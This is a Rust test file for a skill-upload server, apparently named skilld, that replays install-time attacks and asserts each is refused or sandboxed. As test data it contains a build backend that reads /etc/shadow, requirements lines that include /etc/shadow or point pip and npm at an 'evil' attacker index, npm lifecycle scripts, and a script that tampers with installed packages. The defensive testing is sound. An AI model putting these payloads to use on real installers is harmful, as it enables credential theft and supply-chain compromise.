//! Installing an upload, attacked as issue 24 did it against a server run
//! as root: dependency files that make the installers build local code,
//! read other files or reach other hosts; installers that run anyway; the
//! install log; and a version's dependencies changed after the install.
//! Each test performs the attack and shows that it fails, and that
//! nothing ran, leaked or changed.

use crate::common::{TestServer, assert_only_staging, install_options, marks_dir, tempdir, zip_of};
use serde_json::{Value, json};
use skilld::auth::{Auth, Role, Token};
use skilld::install::{DepsSettings, InstallSettings};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

const ADMIN: &str = "install-attacks-admin-secret";
const APPROVER: &str = "install-attacks-approver-secret";
const AGENT: &str = "install-attacks-agent-secret";
const READER: &str = "install-attacks-reader-secret";

/// A server with a token of each role, an installed root, and a user root.
struct Site {
    server: TestServer,
    installed: tempfile::TempDir,
    _user: tempfile::TempDir,
}

impl Site {
    async fn start(install: InstallSettings) -> Self {
        let auth = Auth::new(vec![
            Token::with_secret("admin", Role::Admin, ADMIN, "test").unwrap(),
            Token::with_secret("approver", Role::Approve, APPROVER, "test").unwrap(),
            Token::with_secret("agent", Role::Invoke, AGENT, "test").unwrap(),
            Token::with_secret("reader", Role::Read, READER, "test").unwrap(),
        ])
        .unwrap();
        let (user, installed) = (tempdir().unwrap(), tempdir().unwrap());
        let options = install_options(user.path(), installed.path());
        let server = TestServer::builder(options)
            .install(install)
            .auth(auth)
            .start()
            .await;
        Self {
            server,
            installed,
            _user: user,
        }
    }

    async fn plain() -> Self {
        Self::start(InstallSettings::default()).await
    }

    async fn reviewing() -> Self {
        Self::start(InstallSettings {
            review_uploads: true,
            ..Default::default()
        })
        .await
    }

    /// `name@1.0.0`'s version directory.
    fn version(&self, name: &str) -> PathBuf {
        self.installed.path().join(name).join("1.0.0")
    }

    /// A request with `token` (none for `""`): the status and the body.
    async fn send(
        &self,
        method: reqwest::Method,
        path: &str,
        token: &str,
        body: Option<Value>,
    ) -> (u16, String) {
        let mut req = reqwest::Client::new().request(method, self.server.url(path));
        if !token.is_empty() {
            req = req.bearer_auth(token);
        }
        if let Some(body) = body {
            req = req.json(&body);
        }
        let res = req.send().await.unwrap();
        (res.status().as_u16(), res.text().await.unwrap())
    }

    /// `POST /skills{query}` of `zip` as the admin.
    async fn upload(&self, zip: Vec<u8>, query: &str) -> (u16, Value) {
        let res = reqwest::Client::new()
            .post(self.server.url(&format!("/skills{query}")))
            .bearer_auth(ADMIN)
            .header("content-type", "application/zip")
            .body(zip)
            .send()
            .await
            .unwrap();
        let status = res.status().as_u16();
        (status, res.json().await.unwrap_or(Value::Null))
    }

    async fn log(&self, spec: &str) -> String {
        let (status, log) = self
            .send(
                reqwest::Method::GET,
                &format!("/skills/{spec}/install-log"),
                ADMIN,
                None,
            )
            .await;
        assert_eq!(status, 200, "{log}");
        log
    }
}

/// `name` at 1.0.0, one read-only tool, with `files` beside its SKILL.md.
fn upload_of(name: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let md = format!(
        "---\nname: {name}\nversion: 1.0.0\ndescription: Installs things.\nread_only: true\n---\n\n\
         Installs.\n\n### {}\n\nSays ok.\n\n#### Command\n\n```\necho ok\n```\n",
        name.replace('-', "_")
    );
    let mut all: Vec<(&str, &str, bool)> = vec![("SKILL.md", md.as_str(), false)];
    all.extend(files.iter().map(|(path, text)| (*path, *text, false)));
    zip_of(&all)
}

/// A package whose build backend, and whose `setup.py`, act the moment
/// pip loads them: they leave `marker`, read `/etc/shadow` and fail
/// loudly, so that their running shows in the install's answer and log.
fn hostile_package(marker: &Path) -> [(&'static str, String); 3] {
    let act = format!(
        "import os\n\
         try:\n    open({marker:?}, 'w').write('ran as %d' % os.getuid())\nexcept OSError:\n    pass\n\
         try:\n    shadow = open('/etc/shadow').read()\nexcept OSError:\n    shadow = ''\n\
         raise SystemExit('HOSTILE-BACKEND-RAN uid=%d %s' % (os.getuid(), shadow))\n",
        marker = marker.display().to_string()
    );
    let pyproject =
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n".to_owned();
    [
        ("hostile/pyproject.toml", pyproject),
        ("hostile/backend.py", act.clone()),
        ("hostile/setup.py", act),
    ]
}

fn problem(body: &Value) -> (Option<&str>, Vec<(&str, &str)>) {
    let errors = body["errors"]
        .as_array()
        .map(|e| {
            e.iter()
                .map(|e| {
                    (
                        e["field"].as_str().unwrap_or(""),
                        e["message"].as_str().unwrap_or(""),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    (body["code"].as_str(), errors)
}

/// `./hostile` in `requirements.txt` made pip build the folder, running
/// its PEP 517 backend as root, `--only-binary=:all:` notwithstanding;
/// with reviews on, the review showed nothing.
#[tokio::test]
async fn a_build_backend_named_by_a_local_path_is_refused_before_anything_runs() {
    for site in [Site::plain().await, Site::reviewing().await] {
        let marks = marks_dir();
        let marker = marks.path().join("built");
        let package = hostile_package(&marker);
        let mut files: Vec<(&str, &str)> = package.iter().map(|(p, t)| (*p, t.as_str())).collect();
        files.push(("requirements.txt", "idna==3.7\n./hostile\n"));
        let (status, body) = site.upload(upload_of("builder", &files), "").await;
        assert_eq!(status, 422, "{body}");
        let (code, errors) = problem(&body);
        assert_eq!(code, Some("unsafe_dependencies"), "{body}");
        assert_eq!(errors.len(), 1, "{body}");
        assert_eq!(errors[0].0, "requirements.txt:2");
        assert!(errors[0].1.contains("is a path"), "{body}");
        assert!(!body.to_string().contains("HOSTILE-BACKEND-RAN"), "{body}");
        assert!(!marker.exists(), "the build backend ran");
        assert_only_staging(site.installed.path());
        let (_, reviews) = site.send(reqwest::Method::GET, "/reviews", READER, None).await;
        assert_eq!(
            serde_json::from_str::<Value>(&reviews).unwrap()["reviews"],
            json!([]),
            "nothing waits for a review"
        );
    }
}

/// A version held for review by an older skilld, which took any
/// `requirements.txt`: the review now shows the line, and approving it
/// runs nothing.
#[tokio::test]
async fn a_build_backend_in_a_version_held_by_an_older_skilld_is_flagged_and_approving_runs_nothing() {
    let site = Site::reviewing().await;
    let (status, body) = site
        .upload(upload_of("builder", &[("requirements.txt", "idna==3.7\n")]), "")
        .await;
    assert_eq!(status, 201, "{body}");
    // What the older skilld kept on disk: the hostile files, unrefused.
    let marks = marks_dir();
    let marker = marks.path().join("built");
    let skill = site.version("builder").join("builder");
    for (path, text) in hostile_package(&marker) {
        crate::common::write_file(&skill.join(path), &text);
    }
    std::fs::write(skill.join("requirements.txt"), "idna==3.7\n./hostile\n").unwrap();

    let (_, review) = site
        .send(reqwest::Method::GET, "/skills/builder@1.0.0/review", READER, None)
        .await;
    let review: Value = serde_json::from_str(&review).unwrap();
    let flagged: Vec<(&str, &str, u64)> = review["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["code"].as_str().unwrap(),
                f["path"].as_str().unwrap(),
                f["line"].as_u64().unwrap(),
            )
        })
        .filter(|f| f.0 == "unsafe_dependency")
        .collect();
    assert_eq!(
        flagged,
        [("unsafe_dependency", "requirements.txt", 2)],
        "{review}"
    );

    let approve = json!({"decision": "approve"});
    let (status, body) = site
        .send(
            reqwest::Method::POST,
            "/skills/builder@1.0.0/review",
            ADMIN,
            Some(approve),
        )
        .await;
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (status, problem(&body).0),
        (422, Some("unsafe_dependencies")),
        "{body}"
    );
    assert!(!marker.exists(), "the build backend ran");
    assert!(!site.version("builder").join("env").exists(), "no installer ran");
    let log = site.log("builder@1.0.0").await;
    assert!(log.contains("refused: requirements.txt line 2"), "{log}");
    assert!(
        !log.contains("HOSTILE-BACKEND-RAN") && !log.contains("$ "),
        "{log}"
    );
    let (_, versions) = site
        .send(reqwest::Method::GET, "/skills/builder/versions", READER, None)
        .await;
    let versions: Value = serde_json::from_str(&versions).unwrap();
    assert_eq!(versions["versions"][0]["status"], "failed", "{versions}");
}

/// A TCP port that remembers whether anything connected to it.
async fn tripwire() -> (u16, Arc<AtomicBool>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let touched = Arc::new(AtomicBool::new(false));
    let flag = touched.clone();
    tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            flag.store(true, Ordering::SeqCst);
        }
    });
    (port, touched)
}

/// Lines and password hashes of `/etc/shadow`, where this process can read it.
fn shadow_secrets() -> Vec<String> {
    let text = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
    let mut secrets: Vec<String> = text
        .lines()
        .filter(|l| !l.is_empty())
        .map(str::to_owned)
        .collect();
    secrets.extend(
        text.lines()
            .filter_map(|l| l.split(':').nth(1))
            .filter(|hash| hash.len() > 2)
            .map(str::to_owned),
    );
    secrets
}

/// `-r /etc/shadow` copied root-only lines into the install log, which a
/// `read` token could fetch; `-i`, `--extra-index-url` and `-f` sent pip
/// to any host the server reached.
#[tokio::test]
async fn requirement_options_urls_and_references_are_refused_and_nothing_is_fetched_or_leaked() {
    let site = Site::plain().await;
    let (port, touched) = tripwire().await;
    let evil = format!("http://127.0.0.1:{port}");
    let lines = [
        "-r /etc/shadow".to_owned(),
        "--requirement=/etc/shadow".to_owned(),
        "-c /etc/shadow".to_owned(),
        format!("-i {evil}/simple"),
        format!("--index-url={evil}/simple"),
        format!("--extra-index-url {evil}/simple"),
        format!("-f {evil}/wheels"),
        format!("--find-links {evil}/wheels"),
        "-e .".to_owned(),
        "idna==3.7 --hash=sha256:0000".to_owned(),
        "pkg @ file:///etc/shadow".to_owned(),
        format!("pkg @ {evil}/pkg-1.0-py3-none-any.whl"),
        format!("git+{evil}/pkg.git"),
        format!("{evil}/pkg-1.0.tar.gz"),
        "/etc/shadow".to_owned(),
    ];
    let secrets = shadow_secrets();
    let mut answers = Vec::new();
    for line in &lines {
        let requirements = format!("idna==3.7\n{line}\n");
        let (status, body) = site
            .upload(
                upload_of("fetcher", &[("requirements.txt", &requirements)]),
                "?trust=user",
            )
            .await;
        let (code, errors) = problem(&body);
        assert_eq!(
            (status, code),
            (422, Some("unsafe_dependencies")),
            "{line}: {body}"
        );
        assert_eq!(errors.len(), 1, "{line}: {body}");
        assert_eq!(errors[0].0, "requirements.txt:2", "{line}");
        answers.push(body.to_string());
    }
    let all = lines.join("\n");
    let (status, body) = site
        .upload(upload_of("fetcher", &[("requirements.txt", &all)]), "?trust=user")
        .await;
    assert_eq!(
        (status, problem(&body).1.len()),
        (422, lines.len()),
        "every line is named: {body}"
    );
    answers.push(body.to_string());
    let (status, log) = site
        .send(reqwest::Method::GET, "/skills/fetcher/install-log", ADMIN, None)
        .await;
    assert_eq!(status, 404, "nothing was installed, so there is no log: {log}");
    answers.push(log);

    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert!(
        !touched.load(Ordering::SeqCst),
        "something reached the attacker's index"
    );
    for answer in &answers {
        for secret in &secrets {
            assert!(!answer.contains(secret.as_str()), "/etc/shadow leaked: {answer}");
        }
    }
    assert_only_staging(site.installed.path());
}

/// npm took `file:`, git, `link:` and URL sources, and `workspaces`.
#[tokio::test]
async fn npm_local_git_and_url_sources_and_workspaces_are_refused() {
    let site = Site::plain().await;
    let (port, touched) = tripwire().await;
    let evil = format!("http://127.0.0.1:{port}");
    let deps =
        |spec: String| json!({"name": "n", "private": true, "dependencies": {"victim": spec}}).to_string();
    let packages = [
        deps("file:./hostile".to_owned()),
        deps("file:/etc".to_owned()),
        deps(format!("git+{evil}/x.git")),
        deps("git://127.0.0.1/x.git".to_owned()),
        deps("github:attacker/hostile".to_owned()),
        deps("attacker/hostile".to_owned()),
        deps("link:./hostile".to_owned()),
        deps(format!("{evil}/hostile.tgz")),
        deps("npm:other@1".to_owned()),
        json!({"name": "n", "private": true, "optionalDependencies": {"victim": "file:./hostile"}})
            .to_string(),
        json!({"name": "n", "private": true, "devDependencies": {"victim": format!("{evil}/x.tgz")}})
            .to_string(),
        json!({"name": "n", "private": true, "peerDependencies": {"victim": "link:./x"}}).to_string(),
        json!({"name": "n", "private": true, "overrides": {"is-number": "file:./hostile"}}).to_string(),
        json!({"name": "n", "private": true, "workspaces": ["hostile"]}).to_string(),
    ];
    for package in &packages {
        let files = [
            ("package.json", package.as_str()),
            (
                "hostile/package.json",
                r#"{"name": "victim", "version": "1.0.0"}"#,
            ),
        ];
        let (status, body) = site.upload(upload_of("noder", &files), "?trust=user").await;
        let (code, errors) = problem(&body);
        assert_eq!(
            (status, code),
            (422, Some("unsafe_dependencies")),
            "{package}: {body}"
        );
        assert!(errors[0].0.starts_with("package.json:"), "{body}");
    }
    let package = r#"{"name": "n", "private": true, "dependencies": {"is-number": "7.0.0"}}"#;
    let lock = json!({"name": "n", "lockfileVersion": 3, "packages": {
        "": {"name": "n", "dependencies": {"is-number": "7.0.0"}},
        "node_modules/is-number": {"version": "7.0.0", "resolved": format!("{evil}/is-number-7.0.0.tgz"), "integrity": "sha512-x"}
    }})
    .to_string();
    let files = [("package.json", package), ("package-lock.json", lock.as_str())];
    let (status, body) = site.upload(upload_of("noder", &files), "?trust=user").await;
    let (code, errors) = problem(&body);
    assert_eq!((status, code), (422, Some("unsafe_dependencies")), "{body}");
    assert!(errors[0].0.starts_with("package-lock.json:"), "{body}");
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert!(!touched.load(Ordering::SeqCst), "npm reached the attacker's host");
    assert_only_staging(site.installed.path());
}

/// The skill's own `preinstall`, `install`, `postinstall` and `prepare`
/// scripts would run with the installer, where it may write.
#[tokio::test]
async fn the_skills_npm_lifecycle_scripts_never_run() {
    let site = Site::plain().await;
    let marks = marks_dir();
    let script = |name: &str| {
        format!(
            "echo ran > {name}-ran; echo ran > {}",
            marks.path().join(name).display()
        )
    };
    let package = json!({
        "name": "scripted", "version": "1.0.0", "private": true,
        "dependencies": {"is-number": "7.0.0"},
        "scripts": {
            "preinstall": script("preinstall"), "install": script("install"),
            "postinstall": script("postinstall"), "prepare": script("prepare")
        }
    })
    .to_string();
    let (status, body) = site
        .upload(
            upload_of("scripted", &[("package.json", &package)]),
            "?trust=user",
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let env = site.version("scripted").join("env");
    assert!(
        env.join("node_modules/is-number/package.json").is_file(),
        "the dependency installed"
    );
    for name in ["preinstall", "install", "postinstall", "prepare"] {
        assert!(!env.join(format!("{name}-ran")).exists(), "{name} ran in env/");
        assert!(!marks.path().join(name).exists(), "{name} ran");
    }
}

/// A stand-in for `python3`, and then for the virtualenv's `python`,
/// that says who it runs as and what it can reach: code of an installer,
/// or of a package, that does run at install time.
fn reporting_python(dir: &Path, outside: &[PathBuf], secret: &Path) -> PathBuf {
    let writes: String = outside
        .iter()
        .map(|p| format!("try_write {}\n", p.display()))
        .collect();
    let script = format!(
        "#!/bin/sh\n\
         try_write() {{ if (echo x > \"$1\") 2>/dev/null; then echo \"wrote $1\"; else echo \"refused $1\"; fi; }}\n\
         try_read() {{ if cat \"$1\" >/dev/null 2>&1; then echo \"read $1\"; else echo \"refused $1\"; fi; }}\n\
         echo \"uid=$(id -u)\"\n\
         {writes}\
         try_read /etc/shadow\n\
         try_read {secret}\n\
         try_write \"$PWD/inside-env\"\n\
         echo \"home=$HOME\"\n\
         if [ \"$1 $2\" = \"-m venv\" ]; then mkdir -p \"$3/bin\" && cp \"$0\" \"$3/bin/python\" && chmod 755 \"$3/bin/python\"; fi\n",
        secret = secret.display()
    );
    let path = dir.join("python3");
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    path
}

/// Code that runs at install time (a package's, or an installer's own)
/// ran as root, outside any sandbox, with every file of the host to
/// write.
#[tokio::test]
async fn an_installer_runs_as_the_sandbox_user_and_writes_only_env() {
    if !nix::unistd::geteuid().is_root() {
        assert!(std::env::var_os("CI").is_none(), "CI runs as root");
        eprintln!("skipped: only a root server switches installers to the sandbox's user");
        return;
    }
    // The stand-in's path is configured now, its text written once the
    // server's directories are known.
    let bin = tempdir().unwrap();
    let site = Site::start(InstallSettings {
        deps: DepsSettings {
            python: bin.path().join("python3").display().to_string(),
            ..Default::default()
        },
        ..Default::default()
    })
    .await;
    if site.server.invoker.sandbox().report(true).files == "unavailable" {
        assert!(std::env::var_os("CI").is_none(), "CI hosts have Landlock");
        eprintln!("skipped: no Landlock here");
        return;
    }
    let data = site.server.invoker.settings().data_dir.clone();
    let marks = marks_dir();
    let version = site.version("reporter");
    let outside = vec![
        PathBuf::from("/etc/skilld-installer-escape"),
        std::env::temp_dir().join(format!("skilld-installer-escape-{}", std::process::id())),
        data.join("escape"),
        site.installed.path().join("escape"),
        version.join("escape"),
        version.join("reporter").join("escape"),
        marks.path().join("escape"),
    ];
    // Readable by anyone as far as file modes go: only the sandbox keeps
    // an installer from the data directory.
    let secret = data.join("secret");
    std::fs::write(&secret, "a secret of the data directory").unwrap();
    std::fs::set_permissions(&secret, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    reporting_python(bin.path(), &outside, &secret);
    for path in &outside {
        // Left by an earlier run of this test that failed.
        let _ = std::fs::remove_file(path);
    }

    let (status, body) = site
        .upload(
            upload_of("reporter", &[("requirements.txt", "idna==3.7\n")]),
            "?trust=user",
        )
        .await;
    assert_eq!(status, 201, "the install behaves: {body}");
    let log = site.log("reporter").await;
    let env = version.join("env");
    let reports: Vec<&str> = log.lines().filter(|l| l.starts_with("uid=")).collect();
    assert_eq!(
        reports,
        ["uid=65534", "uid=65534"],
        "venv and pip ran as the sandbox's user: {log}"
    );
    for path in &outside {
        let refused = format!("refused {}", path.display());
        assert_eq!(log.matches(refused.as_str()).count(), 2, "{refused}: {log}");
        assert!(!path.exists(), "{} was written", path.display());
    }
    for read in ["/etc/shadow", secret.to_str().unwrap()] {
        assert_eq!(
            log.matches(format!("refused {read}").as_str()).count(),
            2,
            "{read}: {log}"
        );
    }
    let inside = env.join("inside-env");
    assert!(log.contains(&format!("wrote {}", inside.display())), "{log}");
    assert!(
        log.contains(&format!("home={}", env.join(".home").display())),
        "{log}"
    );
    assert_eq!(
        std::fs::metadata(&inside).unwrap().uid(),
        0,
        "env/ is the server's again"
    );
    assert!(
        !env.join(".home").exists() && !env.join(".tmp").exists(),
        "the installers' scratch is gone"
    );
}

/// A `read` token fetched the install log, into which `-r /etc/shadow`
/// had copied root-only lines.
#[tokio::test]
async fn the_install_log_is_for_admins_only() {
    let site = Site::plain().await;
    let (status, body) = site.upload(upload_of("logged", &[]), "?trust=user").await;
    assert_eq!(status, 201, "{body}");
    for spec in ["logged", "logged@1.0.0"] {
        let path = format!("/skills/{spec}/install-log");
        for token in [READER, AGENT, APPROVER] {
            let (status, body) = site.send(reqwest::Method::GET, &path, token, None).await;
            assert_eq!(status, 403, "{path}: {body}");
            assert!(!body.contains("unpacked"), "the log leaked: {body}");
        }
        let (status, body) = site.send(reqwest::Method::GET, &path, "", None).await;
        assert_eq!(status, 401, "{body}");
        let (status, log) = site.send(reqwest::Method::GET, &path, ADMIN, None).await;
        assert_eq!(status, 200, "{log}");
        assert!(log.contains("no dependencies"), "{log}");
    }
}

/// Installed by the sandbox's user, `env/` stayed that user's: every run
/// of every tool, which is that same user, could rewrite the packages
/// it and later runs import.
#[tokio::test]
async fn env_is_handed_back_so_a_tool_cannot_rewrite_its_dependencies() {
    let site = Site::plain().await;
    let tamper = "\"\"\"Tries to change the packages it runs with.\"\"\"\n\
        import os\nimport idna\n\
        for target, mode in [(idna.__file__, 'a'), (os.path.join(os.environ['VIRTUAL_ENV'], 'planted'), 'w')]:\n\
        \x20   try:\n\
        \x20       with open(target, mode) as f:\n\
        \x20           f.write('# tampered\\n')\n\
        \x20       print('changed', target)\n\
        \x20   except OSError as e:\n\
        \x20       print('refused', e.errno)\n";
    let md = "---\nname: tamperer\nversion: 1.0.0\ndescription: Tampers.\nread_only: true\n---\n\nTampers.\n";
    let files = [
        ("SKILL.md", md, false),
        ("requirements.txt", "idna==3.7\n", false),
        ("scripts/tamper.py", tamper, false),
    ];
    let (status, body) = site.upload(zip_of(&files), "?trust=user").await;
    assert_eq!(status, 201, "{body}");
    let env = site.version("tamperer").join("env");
    let me = nix::unistd::geteuid().as_raw();
    let mut stack = vec![env.clone()];
    let mut seen = 0;
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            assert_eq!(meta.uid(), me, "{} is not the server's", path.display());
            if !meta.is_symlink() {
                assert_eq!(
                    meta.mode() & 0o7022,
                    0,
                    "{} is writable by others",
                    path.display()
                );
            }
            if meta.is_dir() {
                stack.push(path);
            }
            seen += 1;
        }
    }
    assert!(
        seen > 100,
        "a virtualenv with idna was installed ({seen} entries)"
    );

    site.server.allow_every_tool().await;
    let tool = body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .find(|n| n.contains("tamper"))
        .expect("the script's tool")
        .to_owned();
    let args = json!({"arguments": {}});
    let (status, envelope) = site
        .send(
            reqwest::Method::POST,
            &format!("/tools/{tool}/invoke"),
            AGENT,
            Some(args),
        )
        .await;
    assert_eq!(status, 200, "{envelope}");
    let envelope: Value = serde_json::from_str(&envelope).unwrap();
    let output = envelope["output"].as_str().unwrap_or_default();
    assert_eq!(
        output.lines().filter(|l| l.starts_with("refused")).count(),
        2,
        "{envelope}"
    );
    assert!(!output.contains("changed"), "{envelope}");
    assert!(!env.join("venv/planted").exists());
    let idna = std::fs::read_dir(env.join("venv/lib"))
        .unwrap()
        .map(|e| e.unwrap().path().join("site-packages/idna/__init__.py"))
        .find(|p| p.is_file())
        .unwrap();
    assert!(!std::fs::read_to_string(idna).unwrap().contains("tampered"));
}
